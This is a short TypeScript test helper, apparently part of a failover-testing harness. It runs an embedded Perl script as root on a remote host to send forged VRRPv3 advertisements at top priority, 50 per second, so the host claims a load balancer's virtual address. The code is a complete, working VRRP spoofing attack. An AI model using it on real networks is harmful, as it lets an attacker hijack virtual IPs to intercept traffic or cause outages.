import type { Host } from '../../../src/remote/host.ts';

// VRRPv3 (RFC 5798): version 3 type 1, router ID, priority 255, one address, interval of 10 ms; from this machine's own address.
const program = `
use strict; use Socket;
my ($vip, $id, $to, $count) = @ARGV;
socket my $socket, PF_INET, SOCK_RAW, 112 or die "no raw socket: $!\\n";
setsockopt $socket, 0, 2, pack 'i', 255 or die "no TTL: $!\\n";
my $target = sockaddr_in(0, inet_aton($to));
connect $socket, $target or die "no way there: $!\\n";
my (undef, $own) = unpack_sockaddr_in(getsockname $socket);
my $packet = sub { pack 'CCCCnn', 0x31, $id, 255, 1, 1, $_[0] };
my $sum = 0;
$sum += $_ for unpack 'n*', $own . inet_aton($to) . pack('nn', 112, 12) . $packet->(0) . inet_aton($vip);
$sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
for (1 .. $count) {
  send $socket, $packet->(~$sum & 0xffff) . inet_aton($vip), 0 or die "nothing sent: $!\\n";
  select undef, undef, undef, 0.02;
}
`;

/** Pretends from a host to hold the virtual address with the highest priority: 50 advertisements a second to one balancer. */
export async function spoofVrrp(
  host: Host,
  { vip, to, seconds }: { vip: string; to: string; seconds: number },
): Promise<void> {
  const routerId = vip.split('.').at(-1)!;
  await host.run({
    program: 'perl',
    args: ['-', vip, routerId, to, String(seconds * 50)],
    title: 'pretending to be a balancer',
    stdin: program,
    asRoot: true,
  });
}
